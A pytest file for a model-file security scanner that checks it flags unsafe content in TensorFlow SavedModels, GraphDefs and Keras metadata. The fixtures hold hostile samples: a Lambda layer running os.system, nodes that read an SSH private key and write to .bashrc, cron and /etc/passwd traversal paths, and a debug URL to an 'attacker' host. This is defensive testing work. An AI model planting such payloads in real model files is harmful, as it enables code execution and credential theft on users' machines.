"""SavedModels, frozen GraphDefs and keras_metadata.pb built byte by byte (no TensorFlow)."""

from __future__ import annotations

import json
import struct
from pathlib import Path

import pytest

from modelshield.core.findings import Severity
from modelshield.scanner.detect import detect
from modelshield.scanner.registry import Format
from tests.scanner.containers.conftest import rule_ids, scan
from tests.scanner.tensorflow.protobuild import (
    attr_func,
    attr_s,
    attr_type,
    const_float,
    const_string,
    function,
    graph,
    keras_metadata,
    ld,
    meta_graph,
    nested_func_attr,
    node,
    s,
    saved_model,
    user_object,
    varint,
    vi,
)

LAMBDA_LAYER = json.dumps(
    {
        "class_name": "Lambda",
        "config": {"function": "lambda x: __import__('os').system('id')"},
    }
)
DENSE_LAYER = json.dumps({"class_name": "Dense", "config": {"units": 2, "activation": "relu"}})


def _write(tmp_path: Path, data: bytes, name: str = "saved_model.pb") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _benign_graph(*extra: bytes) -> bytes:
    """A serving graph (MatMul, Add, a call into a function) and TF2 saver functions."""
    serving = graph(
        node("x", "Placeholder", dtype=attr_type(1)),
        const_float("w", struct.pack("<4f", 1, 2, 3, 4)),
        node("mm", "MatMul", "x", "w"),
        node("b", "Const", dtype=attr_type(1)),
        node("add", "AddV2", "mm", "b"),
        node("saver_filename", "Placeholder", dtype=attr_type(7)),
        node("call", "StatefulPartitionedCall", "saver_filename", f=attr_func("__inference_save")),
        *extra,
        functions=(
            function(
                "__inference_save",
                const_string("tensor_names", "layer-0/kernel/.ATTRIBUTES/VARIABLE_VALUE"),
                const_string("shape_and_slices", ""),
                const_string("pattern", "^s3://.*"),
                node("sharded", "ShardedFilename", "file_prefix", "num_shards"),
                node("save", "SaveV2", "sharded:filename:0", "tensor_names:output:0"),
                node("merge", "MergeV2Checkpoints", "sharded:filename:0", "file_prefix"),
            ),
            function(
                "__inference_restore",
                const_string("restore_names", "layer-0/kernel/.ATTRIBUTES/VARIABLE_VALUE"),
                node("restore", "RestoreV2", "file_prefix", "restore_names:output:0"),
                node("init", "InitializeTableFromTextFileV2", "table", "asset_path"),
                node("print", "PrintV2", "msg", output_stream=attr_s("stderr"), end=attr_s("\n")),
            ),
        ),
    )
    return saved_model(meta_graph(serving, assets=("vocab.txt",)))


def test_a_benign_savedmodel_is_clean(tmp_path: Path) -> None:
    result = scan(_write(tmp_path, _benign_graph()))
    assert result.format == "tf-savedmodel"
    assert rule_ids(result) == []
    assert result.gaps == ()
    assert result.metadata["tensorflow_version"] == "2.16.1"


@pytest.mark.parametrize(
    "op",
    [
        "PyFunc",
        "PyFuncStateless",
        "EagerPyFunc",
        "ReadFile",
        "WriteFile",
        "MatchingFiles",
        "ImmutableConst",
        "CreateSummaryFileWriter",
        "TFRecordDataset",
        "RpcCall",
    ],
)
def test_unsafe_ops_in_the_graph_are_reported(tmp_path: Path, op: str) -> None:
    result = scan(_write(tmp_path, _benign_graph(node("n", op, "x"))))
    assert rule_ids(result) == ["TF-UNSAFE-OP"]
    assert result.findings[0].severity == Severity.HIGH
    assert result.findings[0].evidence["op"] == op


def test_unsafe_ops_in_a_library_function_are_reported_with_constant_paths(
    tmp_path: Path,
) -> None:
    body = graph(
        node("x", "Placeholder"),
        functions=(
            function(
                "__inference_serve",
                const_string("path", "/home/user/.ssh/id_rsa"),
                node("read", "ReadFile", "path:output:0"),
                const_string("target", "/home/user/.bashrc"),
                node("write", "WriteFile", "target:output:0", "read:contents:0"),
            ),
        ),
    )
    result = scan(_write(tmp_path, saved_model(meta_graph(body))))
    found = {f.evidence["op"]: f for f in result.findings}
    assert set(found) == {"ReadFile", "WriteFile"}
    assert "'/home/user/.ssh/id_rsa'" in found["ReadFile"].evidence["constant_inputs"]
    assert found["WriteFile"].evidence["in"] == "function '__inference_serve'"


@pytest.mark.parametrize(
    ("op", "inputs"),
    [
        ("SaveV2", ("path", "names")),
        ("RestoreV2", ("path", "names")),
        ("MergeV2Checkpoints", ("prefixes", "path")),
        ("InitializeTableFromTextFileV2", ("table", "path")),
    ],
)
def test_checkpoint_ops_with_a_constant_path_are_reported(
    tmp_path: Path, op: str, inputs: tuple[str, str]
) -> None:
    body = graph(
        const_string("path", "/etc/cron.d/job"),
        const_string("names", "v"),
        node("n", op, *inputs),
    )
    result = scan(_write(tmp_path, saved_model(meta_graph(body))))
    assert rule_ids(result) == ["TF-UNSAFE-OP"]
    assert "/etc/cron.d/job" in result.findings[0].evidence["constant_inputs"]


def test_print_to_a_file_is_reported(tmp_path: Path) -> None:
    body = graph(node("p", "PrintV2", "m", output_stream=attr_s("file:///tmp/leak.txt")))
    result = scan(_write(tmp_path, saved_model(meta_graph(body))))
    assert rule_ids(result) == ["TF-UNSAFE-OP"]
    assert "file:///tmp/leak.txt" in result.findings[0].evidence["attributes"]


@pytest.mark.parametrize("asset", ["../../../../etc/passwd", "/etc/passwd"])
def test_asset_paths_that_escape_are_reported(tmp_path: Path, asset: str) -> None:
    body = graph(node("x", "Placeholder"))
    result = scan(_write(tmp_path, saved_model(meta_graph(body, assets=(asset,)))))
    assert rule_ids(result) == ["TF-ASSET-PATH"]
    assert result.findings[0].evidence["asset"] == asset


def test_keras_metadata_in_the_object_graph_is_analysed(tmp_path: Path) -> None:
    body = graph(node("x", "Placeholder"))
    objects = user_object("_tf_keras_layer", LAMBDA_LAYER)
    result = scan(_write(tmp_path, saved_model(meta_graph(body, object_graph=objects))))
    assert rule_ids(result) == ["KERAS-LAMBDA"]
    assert result.findings[0].severity == Severity.CRITICAL


def test_keras_metadata_pb_is_analysed(tmp_path: Path) -> None:
    data = keras_metadata(
        ("root", "_tf_keras_sequential", json.dumps({"class_name": "Sequential"})),
        ("root.layer-0", "_tf_keras_layer", DENSE_LAYER),
        ("root.layer-1", "_tf_keras_layer", LAMBDA_LAYER),
    )
    path = _write(tmp_path, data, "keras_metadata.pb")
    assert detect(memoryview(data)) is Format.KERAS_METADATA
    result = scan(path)
    assert rule_ids(result) == ["KERAS-LAMBDA"]
    assert "root.layer-1" in result.findings[0].message


def test_a_benign_keras_metadata_pb_is_clean(tmp_path: Path) -> None:
    data = keras_metadata(("root.layer-0", "_tf_keras_layer", DENSE_LAYER))
    assert rule_ids(scan(_write(tmp_path, data, "keras_metadata.pb"))) == []


def test_a_frozen_graphdef_is_analysed(tmp_path: Path) -> None:
    data = graph(node("x", "Placeholder"), node("cb", "EagerPyFunc", "x", token=attr_s("pf_0")))
    assert detect(memoryview(data)) is Format.TF_GRAPHDEF
    result = scan(_write(tmp_path, data, "frozen.pb"))
    assert result.format == "tf-graphdef"
    assert rule_ids(result) == ["TF-UNSAFE-OP"]


# ---- hostile wire format ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "tail",
    [
        ld(1, b"")[:1] + varint(2**62),  # a node claiming 2**62 bytes
        b"\x0a" + b"\xff" * 11,  # a length varint of 11 bytes
        b"\x0b",  # wire type 3: a group
    ],
    ids=["absurd-length", "absurd-varint", "group"],
)
def test_broken_wire_format_keeps_what_came_before(tmp_path: Path, tail: bytes) -> None:
    """The PyFunc node before the broken field is still reported."""
    body = ld(1, node("bad", "PyFunc", "x")) + tail
    data = saved_model(meta_graph(body))
    result = scan(_write(tmp_path, data))
    assert rule_ids(result) == ["TF-PROTOBUF-MALFORMED", "TF-UNSAFE-OP"]
    assert result.gaps


def test_fifty_thousand_nested_attribute_values_end_with_a_finding(tmp_path: Path) -> None:
    body = graph(node("call", "PartitionedCall", "x", f=nested_func_attr(50_000)))
    result = scan(_write(tmp_path, saved_model(meta_graph(body))))
    assert rule_ids(result) == ["TF-PROTOBUF-MALFORMED"]
    assert "nest deeper" in result.findings[0].message


# ---- detection ----------------------------------------------------------------------------------


def test_the_corpus_sample_layout_is_a_savedmodel() -> None:
    """modelaudit's minimal sample: no schema version, a meta graph with one node."""
    data = ld(2, ld(2, ld(1, node("Const", "Const"))))
    assert detect(memoryview(data)) is Format.TF_SAVEDMODEL


@pytest.mark.parametrize(
    "data",
    [
        vi(1, 8) + s(2, "pytorch") + s(3, "2.3") + ld(7, s(1, "g")),  # an ONNX model
        b"\n\nimport os\n",
        vi(1, 1) + vi(2, 5),  # a fingerprint.pb-like message of numbers
        ld(1, s(1, "node") + s(2, "not an op!")),
    ],
    ids=["onnx", "text", "fingerprint", "bad-op-name"],
)
def test_other_protobufs_are_not_tensorflow(data: bytes) -> None:
    assert detect(memoryview(data)) not in (
        Format.TF_SAVEDMODEL,
        Format.TF_GRAPHDEF,
        Format.KERAS_METADATA,
    )


def test_list_attributes_are_evidence(tmp_path: Path) -> None:
    urls = ld(1, s(2, "grpc://attacker:6064") + s(2, "file:///tmp/dump"))
    body = graph(node("dbg", "DebugIdentity", "x", debug_urls=urls))
    result = scan(_write(tmp_path, saved_model(meta_graph(body))))
    assert rule_ids(result) == ["TF-UNSAFE-OP"]
    assert "grpc://attacker:6064" in result.findings[0].evidence["attributes"]


@pytest.mark.parametrize(
    ("data", "name", "fmt"),
    [
        (graph(node("cb", "PyFunc", "x")) + b"\x0a\xff", "frozen.pb", "tf-graphdef"),
        (
            keras_metadata(("root.layer-0", "_tf_keras_layer", LAMBDA_LAYER)) + b"\x0a\xff",
            "keras_metadata.pb",
            "keras-metadata",
        ),
    ],
    ids=["graphdef", "keras-metadata"],
)
def test_truncated_graphdef_and_metadata_keep_what_came_before(
    tmp_path: Path, data: bytes, name: str, fmt: str
) -> None:
    result = scan(_write(tmp_path, data, name))
    assert result.format == fmt
    assert "TF-PROTOBUF-MALFORMED" in rule_ids(result)
    assert result.max_severity == Severity.CRITICAL or "TF-UNSAFE-OP" in rule_ids(result)


def test_a_savedmodel_cut_in_half_is_reported_not_passed(tmp_path: Path) -> None:
    data = _benign_graph()
    result = scan(_write(tmp_path, data[: len(data) // 2]))
    assert result.format == "tf-savedmodel"
    assert rule_ids(result) == ["TF-PROTOBUF-MALFORMED"]
    assert result.gaps
